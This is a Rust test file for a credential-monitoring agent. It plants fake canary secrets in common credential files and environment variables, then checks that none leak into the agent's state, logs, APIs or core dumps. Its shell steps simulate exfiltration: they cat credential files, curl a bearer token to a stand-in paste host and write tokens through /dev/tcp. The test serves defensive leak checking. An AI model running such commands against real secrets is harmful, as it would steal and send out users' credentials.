//! No byte of a secret leaves the probe or the zeroized buffer: known secrets are planted,
//! everything is exercised, and then state, logs, findings, metrics, answers and core dumps of every
//! process of the running agent are searched for them.

use anyhow::{Context as _, Result};
use base64::Engine as _;
use lab::{
    agent::Agent, maps::per_cpu_array_bytes, server::TlsServer, wait_for, web::WebServer,
    workload::sh,
};
use std::{
    fs::File,
    os::unix::fs::FileExt as _,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::Duration,
};

/// Every byte of a canary is fake, and occurs nowhere else. It is assembled at run time, so that
/// neither the test's program nor its source contains it.
fn canary(number: u32) -> String {
    format!("CaNaRy{number:02}{}", "qZ7x".repeat(8))
}

/// The search pattern: the middle of a canary, which a damaged copy would also contain.
fn marks(numbers: std::ops::Range<u32>) -> Vec<(u32, Vec<u8>)> {
    numbers
        .map(|number| {
            (
                number,
                format!("RyXX{}", "qZ7x".repeat(3))
                    .replace("XX", &format!("{number:02}"))
                    .into_bytes(),
            )
        })
        .collect()
}

/// Core dumps have a gigabyte and more.
fn holds(bytes: &[u8], mark: &[u8]) -> bool {
    memchr::memmem::find(bytes, mark).is_some()
}

fn files_below(directory: &Path, into: &mut Vec<PathBuf>) -> Result<()> {
    for entry in std::fs::read_dir(directory)? {
        let path = entry?.path();
        if path.is_dir() {
            files_below(&path, into)?;
        } else {
            into.push(path);
        }
    }
    Ok(())
}

/// The contents of the ring buffers in the memory shared with the agent, which are not part of a
/// core dump.
fn rings_of(pid: u32) -> Result<Vec<u8>> {
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps"))?;
    let memory = File::open(format!("/proc/{pid}/mem"))?;
    let mut rings = Vec::new();
    for line in maps.lines().filter(|line| line.contains("bpf-map")) {
        let (range, _) = line.split_once(' ').context("a range")?;
        let (begin, end) = range.split_once('-').context("two addresses")?;
        let begin = u64::from_str_radix(begin, 16)?;
        let mut page = [0u8; 4096];
        for at in (begin..u64::from_str_radix(end, 16)?).step_by(page.len()) {
            memory.read_exact_at(&mut page, at)?;
            rings.extend_from_slice(&page);
        }
    }
    anyhow::ensure!(rings.len() > 1 << 20, "no rings are mapped: {maps}");
    Ok(rings)
}

/// Writes a core dump of a process.
fn core_of(pid: u32, directory: &Path) -> Result<PathBuf> {
    let core = directory.join("core");
    let dumped = Command::new("gcore")
        .arg("-o")
        .arg(&core)
        .arg(pid.to_string())
        .output()?;
    let core = PathBuf::from(format!("{}.{pid}", core.display()));
    anyhow::ensure!(
        core.is_file(),
        "gcore made no core: {}",
        String::from_utf8_lossy(&dumped.stderr)
    );
    Ok(core)
}

#[test]
fn no_secret_stays() -> Result<()> {
    assert!(lab::is_root(), "the canary test needs root");
    let directory = tempfile::tempdir()?;
    let planted = directory.path().join("planted");
    let base64 = base64::engine::general_purpose::STANDARD;
    let jwt_part = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let pem = base64.encode(canary(3));
    let pair = base64.encode(format!("user:{}", canary(4)));
    let jwt = format!(
        "{}.{}.{}",
        jwt_part.encode(r#"{"alg":"none"}"#),
        jwt_part.encode(r#"{"sub":"x","exp":1600000000}"#),
        canary(5)
    );
    let files = [
        (
            ".aws/credentials",
            format!(
                "[default]\naws_access_key_id=AKIAFAKECANARY000001\naws_secret_access_key={}\n",
                canary(0)
            ),
        ),
        (
            ".netrc",
            format!("machine a.example login b password {}\n", canary(1)),
        ),
        (
            ".kube/config",
            format!("users:\n- name: a\n  user: {{ token: {} }}\n", canary(2)),
        ),
        (
            "tls/server.key",
            format!("-----BEGIN PRIVATE KEY-----\n{pem}\n-----END PRIVATE KEY-----\n"),
        ),
        (
            ".docker/config.json",
            format!(r#"{{"auths":{{"r.example":{{"auth":"{pair}"}}}}}}"#),
        ),
        (".vault-token", jwt),
        (
            ".npmrc",
            format!("//registry.example/:_authToken={}\n", canary(6)),
        ),
        (
            ".env",
            format!(
                "GITHUB_TOKEN={}\nDATABASE_URL=postgres://u:{}@db/x\n",
                canary(7),
                canary(8)
            ),
        ),
        (".pgpass", format!("db:5432:x:u:{}\n", canary(9))),
        (
            ".git-credentials",
            format!("https://u:{}@git.example\n", canary(10)),
        ),
        ("store.p12", canary(11)),
        // Malformed on purpose: parsers quote what they do not understand in errors.
        (
            "broken/.docker/config.json",
            format!(r#"{{"auths": {{"x": {}"#, canary(12)),
        ),
        (
            "broken/.kube/config",
            format!("users: [ {{ token: {}\n  : : :", canary(13)),
        ),
        (
            "broken/.aws/credentials",
            format!("[default\naws_secret_access_key {}\n", canary(14)),
        ),
    ];
    for (name, text) in &files {
        let path = planted.join(name);
        std::fs::create_dir_all(path.parent().context("a parent")?)?;
        std::fs::write(path, text)?;
    }
    // One environment exists before the agent, which reads it.
    let mut early = Command::new("sleep")
        .arg("120")
        .env("SLACK_BOT_TOKEN", canary(15))
        // File contents where a path is expected.
        .env("KUBECONFIG", format!("users: {{ token: {} }}", canary(25)))
        .stdout(Stdio::null())
        .spawn()?;
    let agent = Agent::start(directory.path(), &[])?;
    let server = TlsServer::start("127.0.0.1")?;
    let url = format!("redis://:{}@cache:6379", canary(16));
    let paths: Vec<String> = files
        .iter()
        .map(|(name, _)| planted.join(name).display().to_string())
        .collect();
    sh(
        &format!(
            "cat {} >/dev/null; curl -sS -k -H \"Authorization: Bearer $MY_API_KEY\" --connect-to ::127.0.0.1:{} https://paste.example/ >/dev/null",
            paths.join(" "),
            server.address.port()
        ),
        &[
            ("REDIS_URL", &url),
            ("MY_API_KEY", &canary(17)),
            ("GOOGLE_APPLICATION_CREDENTIALS", &canary(26)),
        ],
    )?;
    // Everything was observed: the readable files, both environments, the hop.
    for known in paths.iter().take(11).map(String::as_str).chain([
        "env:SLACK_BOT_TOKEN",
        "env:REDIS_URL",
        "env:MY_API_KEY",
    ]) {
        agent.await_json(&["query", "who", known], |answer| {
            answer["uses"]
                .as_array()
                .is_some_and(|uses| !uses.is_empty())
        })?;
    }
    agent.await_json(&["query", "where", "env:MY_API_KEY"], |answer| {
        answer["hops"]
            .as_array()
            .is_some_and(|hops| !hops.is_empty())
    })?;
    // Also over HTTP/2, where the value is Huffman-coded, and through another library.
    let web = WebServer::start("127.0.0.1")?;
    sh(
        &format!(
            "curl -sS -k --http2 -o /dev/null -H \"X-Vault-Token: $ONE\" https://{0}/; wget -q --no-check-certificate -O /dev/null --header \"Authorization: token $TWO\" https://{0}/",
            web.address
        ),
        &[("ONE", &canary(18)), ("TWO", &canary(19))],
    )?;
    // In plaintext, wrapped in base64, and in the login of another protocol.
    let plain = WebServer::start_plain("127.0.0.1")?;
    sh(
        &format!(
            "curl -sS --http1.1 -o /dev/null -H \"Authorization: Bearer $ONE\" http://{0}/; curl -sS -o /dev/null -u \"fake:$TWO\" http://{0}/; python3 {1} smtp-plain \"$THREE\"",
            plain.address,
            lab::client("sign_in.py")
        ),
        &[
            ("ONE", &canary(20)),
            ("TWO", &canary(21)),
            ("THREE", &canary(22)),
        ],
    )?;
    // Split between two packets, without a server name.
    let (whole, cut) = (canary(23), canary(24));
    sh(
        &format!(
            "exec 3<>/dev/tcp/127.0.0.1/{}; printf 'GET / HTTP/1.0\\r\\nX-Auth-Token: %s\\r\\nX-Api-Key: %s' \"$WHOLE\" \"$FRONT\" >&3; printf '%s\\r\\n\\r\\n' \"$REST\" >&3; read -r line <&3",
            plain.address.port()
        ),
        &[
            ("WHOLE", &whole),
            ("FRONT", &cut[..30]),
            ("REST", &cut[30..]),
        ],
    )?;
    wait_for(
        "what was presented is known",
        Duration::from_secs(8),
        || {
            let presented = agent.metric("keytrail_hops_total", &["evidence=\"presented\""])?;
            Ok((presented >= 8.0).then_some(()))
        },
    )?;
    let mut places: Vec<(String, Vec<u8>)> = Vec::new();
    for map in ["SEARCH_SCRATCH", "ENVIRON_SCRATCH"] {
        places.push((format!("map {map}"), per_cpu_array_bytes(map)?));
    }
    places.push(("the rings".to_owned(), rings_of(agent.pid())?));
    for path in [
        "/metrics",
        "/api/v1/credentials",
        "/api/v1/hops",
        "/api/v1/findings",
        "/api/v1/timeline",
        "/api/v1/workloads",
    ] {
        places.push((path.to_owned(), agent.get(path)?.1.into_bytes()));
    }
    for arguments in [
        ["inventory"].as_slice(),
        &["findings"],
        &["query", "timeline"],
        &["query", "who", &paths[0]],
    ] {
        let output = agent.query(arguments)?;
        places.push((arguments.join(" "), [output.stdout, output.stderr].concat()));
    }
    let readers = agent.children()?;
    assert!(readers.len() >= 2, "no readers: {readers:?}");
    let mut cores = Vec::new();
    for pid in readers.iter().copied().chain([agent.pid()]) {
        cores.push(core_of(pid, directory.path())?);
    }
    let core = cores.last().context("a core")?.clone();
    early.kill()?;
    early.wait()?;
    std::fs::remove_dir_all(&planted)?;
    let mut written = Vec::new();
    files_below(directory.path(), &mut written)?;
    for path in written {
        places.push((path.display().to_string(), std::fs::read(&path)?));
    }
    for core in &cores {
        let size = std::fs::metadata(core)?.len();
        assert!(size > 1 << 20, "a core of {size} bytes is none");
    }
    // The search works: the core dump contains the key's id, which is public.
    for (place, bytes) in &places {
        for (number, mark) in marks(0..27) {
            assert!(!holds(bytes, &mark), "canary {number} is in {place}");
        }
    }
    let core_bytes = &places
        .iter()
        .find(|(place, _)| *place == core.display().to_string())
        .context("the core")?
        .1;
    assert!(
        holds(core_bytes, b"env:SLACK_BOT_TOKEN"),
        "the core is not the agent's"
    );
    Ok(())
}
